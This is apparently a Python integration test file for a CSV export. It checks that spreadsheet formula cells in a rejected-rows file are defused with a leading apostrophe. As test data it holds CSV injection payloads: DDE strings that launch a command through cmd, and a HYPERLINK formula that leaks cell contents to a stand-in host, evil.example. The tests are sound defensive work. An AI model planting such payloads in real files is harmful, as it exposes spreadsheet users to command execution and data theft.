"""rejected.csv opens safely in a spreadsheet: a cell that would run as a formula opens as text.

Fixture: tests/fixtures/segments/formula_cells (a plain CSV whose email cells start with =, +, -, @, tab or CR).
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from shared.runs import rejected_csv
from tests.integration.exporting import export, load_export, make_context, rejected_rows

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "segments" / "formula_cells"
FORMULA_EMAIL = "=cmd|'/ccalc'!a0@example.com"  # passes the email check: a real (odd) address


def formula_export(tmp_path, sim):
    shutil.copytree(FIXTURE, tmp_path, dirs_exist_ok=True)
    ctx = make_context(tmp_path, sim.base_url)
    definition = load_export(source={"container": "segments", "file": "exports/vip.csv"},
                             mapping={"email": "Email", "firstName": "First Name"},
                             # Most rows are hostile on purpose: the mapping guard must let them through.
                             maxRejectedFraction=1)
    return ctx, export(ctx, definition)


def test_no_cell_of_rejected_csv_starts_with_a_formula_character(tmp_path, sim):
    ctx, report = formula_export(tmp_path, sim)
    rows = rejected_rows(ctx, report)
    assert len(rows) == report["rejected"] + report["duplicates"] == 7
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_formula_cells_are_kept_behind_an_apostrophe(tmp_path, sim):
    ctx, report = formula_export(tmp_path, sim)
    emails = {row["email"] for row in rejected_rows(ctx, report)}
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&E2,\"Click me\")" in emails
    assert "'+cmd|' /C calc'!A0" in emails
    assert "'" + FORMULA_EMAIL in emails  # the duplicate row
    assert "'\ttab@example" in emails
    assert "'\rcr@example" in emails


def test_the_address_itself_reaches_omnisend_unchanged(tmp_path, sim):
    formula_export(tmp_path, sim)
    assert FORMULA_EMAIL in sim.contacts()


def test_plain_cells_are_written_as_they_are():
    data = rejected_csv([{"bucket": "rejected", "file": "a.csv", "line": 3, "email": "jane@example", "reason": "x"}])
    row = next(csv.DictReader(io.StringIO(data.decode())))
    assert row["email"] == "jane@example" and row["line"] == "3"
